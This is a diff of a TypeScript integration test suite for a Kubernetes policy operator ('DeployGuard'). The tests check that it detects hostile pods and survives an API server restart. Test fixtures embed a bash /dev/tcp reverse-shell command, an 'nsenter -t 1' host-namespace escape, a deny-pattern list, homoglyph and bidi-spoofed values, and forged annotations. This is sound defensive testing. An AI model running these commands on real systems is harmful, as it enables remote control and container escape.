@@ -4,7 +4,13 @@
 import { expect } from 'chai';
 import { join } from 'node:path';
 import { freshNamespace, kubectl, repoRoot, run, waitFor } from '../cluster.ts';
-import { SERVICE_ACCOUNT, applyPolicy, type LogLine, type OperatorProcess } from './harness.ts';
+import {
+  SERVICE_ACCOUNT,
+  applyPolicy,
+  type LogLine,
+  type OperatorProcess,
+  operatorTest,
+} from './harness.ts';
 import {
   BASELINE,
   DETECTED_AT,
@@ -42,21 +48,6 @@ function watchExit(op: OperatorProcess): { exited: () => boolean } {
   let exited = false;
   void op.exited.then(() => (exited = true));
   return { exited: () => exited };
-}
-
-/**
- * A freshly started API server answers before its RBAC authorizer has loaded the bindings, so
- * requests in those first seconds get 403 although the operator's RBAC is right. The root
- * afterEach fails a test on any "forbidden" log line (least privilege proven by use); a retried
- * watch during the restart window is not such a refusal, so those lines alone are dropped.
- */
-function forgiveStartupForbidden(op: OperatorProcess, from: number, to: number): void {
-  for (let i = op.logs.length - 1; i >= 0; i--) {
-    const l = op.logs[i] as LogLine;
-    const at = Date.parse(String(l.ts));
-    if (l.reason === 'forbidden' && /rewatching|relisting/.test(l.msg) && at >= from && at <= to)
-      op.logs.splice(i, 1);
-  }
 }
 
 /**
@@ -98,217 +89,228 @@ describe('operator: resilience', function () {
   this.timeout(120_000);
   afterEach(printLogOnFailure);
 
-  it('judges hostile pods the API server accepts without crashing or stalling', async () => {
-    const own = await freshNamespace('dg-op');
-    const ns = await freshNamespace('dg-hostile');
-    const policy = `hostile-${ns}`;
-    await applyPolicy(own, policy, {
-      mode: 'Audit',
-      match: { namespaces: [ns] },
-      rules: {
-        ...BASELINE,
-        indicators: { enabled: true },
-        images: { allowedRegistries: ['registry.example.com/'] },
-        // Catastrophic for a backtracking engine over the long args below; linear under RE2.
-        commands: { deniedPatterns: ['(x+x+)+y', '(?i)nsenter\\s+-t\\s*1'] },
-      },
-    });
-    const op = await start(own);
-    const alive = watchExit(op);
+  operatorTest(
+    'judges hostile pods the API server accepts without crashing or stalling',
+    async () => {
+      const own = await freshNamespace('dg-op');
+      const ns = await freshNamespace('dg-hostile');
+      const policy = `hostile-${ns}`;
+      await applyPolicy(own, policy, {
+        mode: 'Audit',
+        match: { namespaces: [ns] },
+        rules: {
+          ...BASELINE,
+          indicators: { enabled: true },
+          images: { allowedRegistries: ['registry.example.com/'] },
+          // Catastrophic for a backtracking engine over the long args below; linear under RE2.
+          commands: { deniedPatterns: ['(x+x+)+y', '(?i)nsenter\\s+-t\\s*1'] },
+        },
+      });
+      const op = await start(own);
+      const alive = watchExit(op);
 
-    const env = Array.from({ length: 1000 }, (_, i) => ({
-      name: `V${i}`,
-      value: `\u202e${'é'.repeat(i % 50)}\u200d😈${i}`,
-    }));
-    const shell = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';
-    await create(ns, pod('many-env', { env, ...PRIVILEGED }));
-    // ~100 KB of padding in front of a reverse shell: the finding at the end must not be lost.
-    await create(
-      ns,
-      pod('long-args', { command: ['sh', '-c'], args: [`${'x'.repeat(100_000)}; ${shell}`] }),
-    );
-    // More args than the engine's per-list bound, the payload last: judged fail-closed, not skipped.
-    await create(
-      ns,
-      pod('many-args', {
-        command: ['sh', '-c'],
-        args: [...Array(1100).fill('true'), 'nsenter -t 1 -m sh'],
-      }),
-    );
-    // Bidi overrides, zero-width joiners, emoji, NUL and 60 KB in annotation values; a homoglyph registry.
-    await create(
-      ns,
-      pod(
-        'unicode',
-        { image: 'regіstry.example.com/app:1.0' },
-        {},
-        {
-          annotations: {
-            'example.com/rtl': '\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d \u0000 👩‍👩‍👧',
-            'example.com/big': 'ä'.repeat(30_000),
+      const env = Array.from({ length: 1000 }, (_, i) => ({
+        name: `V${i}`,
+        value: `\u202e${'é'.repeat(i % 50)}\u200d😈${i}`,
+      }));
+      const shell = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';
+      await create(ns, pod('many-env', { env, ...PRIVILEGED }));
+      // ~100 KB of padding in front of a reverse shell: the finding at the end must not be lost.
+      await create(
+        ns,
+        pod('long-args', { command: ['sh', '-c'], args: [`${'x'.repeat(100_000)}; ${shell}`] }),
+      );
+      // More args than the engine's per-list bound, the payload last: judged fail-closed, not skipped.
+      await create(
+        ns,
+        pod('many-args', {
+          command: ['sh', '-c'],
+          args: [...Array(1100).fill('true'), 'nsenter -t 1 -m sh'],
+        }),
+      );
+      // Bidi overrides, zero-width joiners, emoji, NUL and 60 KB in annotation values; a homoglyph registry.
+      await create(
+        ns,
+        pod(
+          'unicode',
+          { image: 'regіstry.example.com/app:1.0' },
+          {},
+          {
+            annotations: {
+              'example.com/rtl': '\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d \u0000 👩‍👩‍👧',
+              'example.com/big': 'ä'.repeat(30_000),
+            },
           },
-        },
-      ),
-    );
-    // Sixty privileged containers in one pod.
-    await create(
-      ns,
-      pod(
-        'wide',
-        {},
-        {
-          containers: Array.from({ length: 60 }, (_, i) =>
-            container({ name: `c${i}`, ...PRIVILEGED }),
-          ),
-        },
-      ),
-    );
+        ),
+      );
+      // Sixty privileged containers in one pod.
+      await create(
+        ns,
+        pod(
+          'wide',
+          {},
+          {
+            containers: Array.from({ length: 60 }, (_, i) =>
+              container({ name: `c${i}`, ...PRIVILEGED }),
+            ),
+          },
+        ),
+      );
 
-    expect(await violations(ns, 'many-env')).to.contain('"rule":"pss.privileged"');
-    expect(await violations(ns, 'long-args')).to.contain('"rule":"indicator.reverseShell"');
-    expect(await violations(ns, 'many-args')).to.contain(`"policy":"${policy}"`);
-    expect(await violations(ns, 'unicode')).to.contain('"rule":"image.registry"');
-    expect(await violations(ns, 'wide')).to.equal(
-      `[{"policy":"${policy}","rule":"pss.privileged","severity":"critical"}]`,
-    );
-    // Events are sent without the reconcile waiting: all there first, then exactly one each.
-    const hostile = ['many-env', 'long-args', 'many-args', 'unicode', 'wide'];
-    const counts = await readSettled(
-      'a PolicyViolation event for each hostile pod',
-      () => Promise.all(hostile.map((p) => violationEvents(ns, p))),
-      (l) => l.every((n) => n >= 1),
-    );
-    expect(Object.fromEntries(hostile.map((p, i) => [p, counts[i]]))).to.deep.equal(
-      Object.fromEntries(hostile.map((p) => [p, 1])),
-    );
+      expect(await violations(ns, 'many-env')).to.contain('"rule":"pss.privileged"');
+      expect(await violations(ns, 'long-args')).to.contain('"rule":"indicator.reverseShell"');
+      expect(await violations(ns, 'many-args')).to.contain(`"policy":"${policy}"`);
+      expect(await violations(ns, 'unicode')).to.contain('"rule":"image.registry"');
+      expect(await violations(ns, 'wide')).to.equal(
+        `[{"policy":"${policy}","rule":"pss.privileged","severity":"critical"}]`,
+      );
+      // Events are sent without the reconcile waiting: all there first, then exactly one each.
+      const hostile = ['many-env', 'long-args', 'many-args', 'unicode', 'wide'];
+      const counts = await readSettled(
+        'a PolicyViolation event for each hostile pod',
+        () => Promise.all(hostile.map((p) => violationEvents(ns, p))),
+        (l) => l.every((n) => n >= 1),
+      );
+      expect(Object.fromEntries(hostile.map((p, i) => [p, counts[i]]))).to.deep.equal(
+        Object.fromEntries(hostile.map((p) => [p, 1])),
+      );
 
-    expect(alive.exited()).to.equal(false);
-    expect(await healthz(op)).to.equal(200);
-    // Judging and acting errors only: a transient status write or periodic task failure under
-    // load is retried, and not what this test is about.
-    expect(op.logs.filter((l) => /unhandled|could not be evaluated/.test(l.msg))).to.deep.equal([]);
-    expect(seriousErrors(op)).to.deep.equal([]);
-  });
+      expect(alive.exited()).to.equal(false);
+      expect(await healthz(op)).to.equal(200);
+      // Judging and acting errors only: a transient status write or periodic task failure under
+      // load is retried, and not what this test is about.
+      expect(op.logs.filter((l) => /unhandled|could not be evaluated/.test(l.msg))).to.deep.equal(
+        [],
+      );
+      expect(seriousErrors(op)).to.deep.equal([]);
+    },
+  );
 
-  it('reports a pod that arrives pre-marked as already recorded, or with a garbage mark', async () => {
-    const own = await freshNamespace('dg-op');
-    const ns = await freshNamespace('dg-spoof');
-    const policy = `spoof-${ns}`;
-    await applyPolicy(own, policy, {
-      mode: 'Audit',
-      match: { namespaces: [ns] },
-      rules: BASELINE,
-    });
-    const op = await start(own);
-    const truth = `[{"policy":"${policy}","rule":"pss.privileged","severity":"critical"}]`;
-    // The creator writes the operator's own marks: the operator never wrote them, so they prove nothing.
-    await create(
-      ns,
-      pod(
-        'spoofed',
-        PRIVILEGED,
-        {},
-        {
-          annotations: { [VIOLATIONS]: truth, [DETECTED_AT]: '2020-01-01T00:00:00Z' },
-          labels: { [VIOLATING]: 'true' },
-        },
-      ),
-    );
-    await create(
-      ns,
-      pod(
-        'garbage',
-        PRIVILEGED,
-        {},
-        {
-          annotations: { [VIOLATIONS]: '{{{ not json', [DETECTED_AT]: 'yesterday' },
-        },
-      ),
-    );
-    await waitFor('garbage mark replaced', async () => {
-      const a = (await get<PodJson>('pod', 'garbage', ns))?.metadata.annotations ?? {};
-      return a[VIOLATIONS] === truth && /^\d{4}-/.test(a[DETECTED_AT] ?? '');
-    });
-    expect(await settledViolationEvents(ns, 'garbage')).to.equal(1);
-    // Both detections count, and both are announced.
-    await waitFor(
-      'PolicyViolation event for the spoofed pod',
-      async () => (await violationEvents(ns, 'spoofed')) === 1,
-      5000,
-    );
-    expect(
-      await op.metric('deployguard_violations_total', { policy, rule: 'pss.privileged' }),
-    ).to.equal(2);
-  });
+  operatorTest(
+    'reports a pod that arrives pre-marked as already recorded, or with a garbage mark',
+    async () => {
+      const own = await freshNamespace('dg-op');
+      const ns = await freshNamespace('dg-spoof');
+      const policy = `spoof-${ns}`;
+      await applyPolicy(own, policy, {
+        mode: 'Audit',
+        match: { namespaces: [ns] },
+        rules: BASELINE,
+      });
+      const op = await start(own);
+      const truth = `[{"policy":"${policy}","rule":"pss.privileged","severity":"critical"}]`;
+      // The creator writes the operator's own marks: the operator never wrote them, so they prove nothing.
+      await create(
+        ns,
+        pod(
+          'spoofed',
+          PRIVILEGED,
+          {},
+          {
+            annotations: { [VIOLATIONS]: truth, [DETECTED_AT]: '2020-01-01T00:00:00Z' },
+            labels: { [VIOLATING]: 'true' },
+          },
+        ),
+      );
+      await create(
+        ns,
+        pod(
+          'garbage',
+          PRIVILEGED,
+          {},
+          {
+            annotations: { [VIOLATIONS]: '{{{ not json', [DETECTED_AT]: 'yesterday' },
+          },
+        ),
+      );
+      await waitFor('garbage mark replaced', async () => {
+        const a = (await get<PodJson>('pod', 'garbage', ns))?.metadata.annotations ?? {};
+        return a[VIOLATIONS] === truth && /^\d{4}-/.test(a[DETECTED_AT] ?? '');
+      });
+      expect(await settledViolationEvents(ns, 'garbage')).to.equal(1);
+      // Both detections count, and both are announced.
+      await waitFor(
+        'PolicyViolation event for the spoofed pod',
+        async () => (await violationEvents(ns, 'spoofed')) === 1,
+        5000,
+      );
+      expect(
+        await op.metric('deployguard_violations_total', { policy, rule: 'pss.privileged' }),
+      ).to.equal(2);
+    },
+  );
 
   // Restarts the shared API server: keep it last in this file.
-  it('survives an API server restart and handles every violating pod exactly once', async () => {
-    const own = await freshNamespace('dg-op');
-    const ns = await freshNamespace('dg-apirestart');
-    await applyPolicy(own, `apirestart-${ns}`, {
-      mode: 'Audit',
-      match: { namespaces: [ns] },
-      rules: BASELINE,
-    });
-    const op = await start(own);
-    const alive = watchExit(op);
-    await create(ns, pod('before-1', PRIVILEGED));
-    await create(ns, pod('before-2', PRIVILEGED));
-    const marks: Record<string, string | undefined> = {};
-    for (const p of ['before-1', 'before-2']) {
-      await violations(ns, p);
-      marks[p] = JSON.stringify((await get<PodJson>('pod', p, ns))?.metadata.annotations);
-      // Sent without the reconcile waiting for it: written before the restart could cut it off.
-      await waitFor(
-        `the PolicyViolation event of ${p}`,
-        async () => (await violationEvents(ns, p)) >= 1,
-      );
-    }
-
-    // Watch /healthz while the API server is away: it may flip, the process must not die.
-    const health: number[] = [];
-    const restartFrom = Date.now();
-    let polling = true;
-    const poller = (async () => {
-      while (polling) {
-        health.push(await healthz(op));
-        await sleep(250);
+  operatorTest(
+    'survives an API server restart and handles every violating pod exactly once',
+    async () => {
+      const own = await freshNamespace('dg-op');
+      const ns = await freshNamespace('dg-apirestart');
+      await applyPolicy(own, `apirestart-${ns}`, {
+        mode: 'Audit',
+        match: { namespaces: [ns] },
+        rules: BASELINE,
+      });
+      const op = await start(own);
+      const alive = watchExit(op);
+      await create(ns, pod('before-1', PRIVILEGED));
+      await create(ns, pod('before-2', PRIVILEGED));
+      const marks: Record<string, string | undefined> = {};
+      for (const p of ['before-1', 'before-2']) {
+        await violations(ns, p);
+        marks[p] = JSON.stringify((await get<PodJson>('pod', p, ns))?.metadata.annotations);
+        // Sent without the reconcile waiting for it: written before the restart could cut it off.
+        await waitFor(
+          `the PolicyViolation event of ${p}`,
+          async () => (await violationEvents(ns, p)) >= 1,
+        );
       }
-    })();
-    try {
-      await run(
-        'bash',
-        [join(repoRoot, 'test', 'cluster', 'component.sh'), 'restart', 'kube-apiserver'],
-        {
-          timeoutMs: 120_000,
-        },
-      );
-      // Writes made before RBAC is back would be refused ("forbidden" fails the test): only the
-      // retried list/watch of the restart window is forgiven, not a refused write.
-      await waitForOperatorRbac(own, ns);
-      await create(ns, pod('after-1', PRIVILEGED));
-      await create(ns, pod('after-2', PRIVILEGED));
-      // Watches resume after their backoff (at most 30 s).
-      await violations(ns, 'after-1', 40_000);
-      await violations(ns, 'after-2', 10_000);
-      forgiveStartupForbidden(op, restartFrom, Date.now());
-      await waitFor('healthz 200 again', async () => (await healthz(op)) === 200, 30_000);
-    } finally {
-      polling = false;
-      await poller;
-    }
-    await sleep(1500);
-    for (const p of ['before-1', 'before-2']) {
-      expect(JSON.stringify((await get<PodJson>('pod', p, ns))?.metadata.annotations), p).to.equal(
-        marks[p],
-      );
-      expect(await violationEvents(ns, p), p).to.equal(1);
-    }
-    for (const p of ['after-1', 'after-2'])
-      expect(await settledViolationEvents(ns, p), p).to.equal(1);
-    expect(await op.metric('deployguard_violations_total', { namespace: ns })).to.equal(4);
-    expect(await op.metric('deployguard_watch_restarts_total')).to.be.greaterThan(0);
-    expect(alive.exited(), 'operator exited during the API server restart').to.equal(false);
-    expect(op.logs.filter((l) => /unhandled/.test(l.msg))).to.deep.equal([]);
-  });
+
+      // Watch /healthz while the API server is away: it may flip, the process must not die.
+      const health: number[] = [];
+      let polling = true;
+      const poller = (async () => {
+        while (polling) {
+          health.push(await healthz(op));
+          await sleep(250);
+        }
+      })();
+      try {
+        await run(
+          'bash',
+          [join(repoRoot, 'test', 'cluster', 'component.sh'), 'restart', 'kube-apiserver'],
+          {
+            timeoutMs: 120_000,
+          },
+        );
+        // A restarted API server refuses for a few seconds what RBAC allows (its authorizer has
+        // not loaded the bindings): the operator retries, and operatorTest counts only refusals
+        // the authorizer still gives. The pods of this test are created once it is back.
+        await waitForOperatorRbac(own, ns);
+        await create(ns, pod('after-1', PRIVILEGED));
+        await create(ns, pod('after-2', PRIVILEGED));
+        // Watches resume after their backoff (at most 30 s).
+        await violations(ns, 'after-1', 40_000);
+        await violations(ns, 'after-2', 10_000);
+        await waitFor('healthz 200 again', async () => (await healthz(op)) === 200, 30_000);
+      } finally {
+        polling = false;
+        await poller;
+      }
+      await sleep(1500);
+      for (const p of ['before-1', 'before-2']) {
+        expect(
+          JSON.stringify((await get<PodJson>('pod', p, ns))?.metadata.annotations),
+          p,
+        ).to.equal(marks[p]);
+        expect(await violationEvents(ns, p), p).to.equal(1);
+      }
+      for (const p of ['after-1', 'after-2'])
+        expect(await settledViolationEvents(ns, p), p).to.equal(1);
+      expect(await op.metric('deployguard_violations_total', { namespace: ns })).to.equal(4);
+      expect(await op.metric('deployguard_watch_restarts_total')).to.be.greaterThan(0);
+      expect(alive.exited(), 'operator exited during the API server restart').to.equal(false);
+      expect(op.logs.filter((l) => /unhandled/.test(l.msg))).to.deep.equal([]);
+    },
+  );
 });
